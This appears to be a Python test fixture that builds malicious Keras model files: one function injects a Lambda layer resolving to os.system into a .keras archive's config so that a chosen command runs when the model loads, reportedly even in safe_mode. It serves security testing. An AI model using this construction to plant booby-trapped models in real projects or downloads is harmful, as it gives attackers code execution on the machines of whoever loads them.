"""Files as an attacker would write them, for the tests of what must not happen."""

import json
import zipfile
from pathlib import Path


def model_that_runs(original: Path, target: Path, command: str, keep_name: str = "logit") -> None:
    """Write a `.keras` file that runs a command when Keras makes its layers, in `safe_mode` too.

    A Lambda layer whose function is `os.system` is called on a constant while the graph is put together.
    """
    with zipfile.ZipFile(original) as archive:
        contents = {name: archive.read(name) for name in archive.namelist()}
    config = json.loads(contents["config.json"])
    config["config"]["layers"].append(
        {
            "module": "keras.layers",
            "class_name": "Lambda",
            "config": {
                "name": "attack",
                "trainable": True,
                "dtype": "float32",
                "function_type": "function",
                "output_shape": None,
                "output_shape_type": "raw",
                "arguments": {},
                "function": {"module": "os", "class_name": "function", "config": "system", "registered_name": "system"},
            },
            "registered_name": None,
            "name": "attack",
            "inbound_nodes": [[["_CONSTANT_VALUE", -1, command, {}]]],
        }
    )
    contents["config.json"] = json.dumps(config).encode()
    with zipfile.ZipFile(target, "w") as archive:
        for name, content in contents.items():
            archive.writestr(name, content)
